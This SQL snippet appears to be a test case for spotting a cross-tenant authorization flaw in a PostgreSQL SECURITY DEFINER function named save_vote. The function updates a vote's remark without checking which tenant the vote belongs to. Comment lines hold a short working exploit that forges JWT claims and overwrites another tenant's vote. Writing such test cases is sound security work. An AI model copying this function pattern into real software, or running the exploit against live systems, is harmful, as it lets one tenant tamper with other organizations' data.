-- Tenant A writes remarks into any vote by a function that writes with the owner's rights.
-- about: save_vote
-- as: ho_surveys_user
-- exploit: SET request.jwt.claims = '{"org_id": "aaaaaaaa-0000-4000-8000-000000000000", "role": "admin"}';
-- exploit: SELECT survey_id, remark FROM save_vote('bbbbbbbb-0000-4000-8000-000000000003', 'forged');
-- shows: forged
CREATE FUNCTION save_vote(vote uuid, new_remark text) RETURNS SETOF votes LANGUAGE sql
SECURITY DEFINER SET search_path = public, pg_temp
AS $$ UPDATE votes SET remark = new_remark WHERE id = vote AND claim('org_id') IS NOT NULL RETURNING * $$;
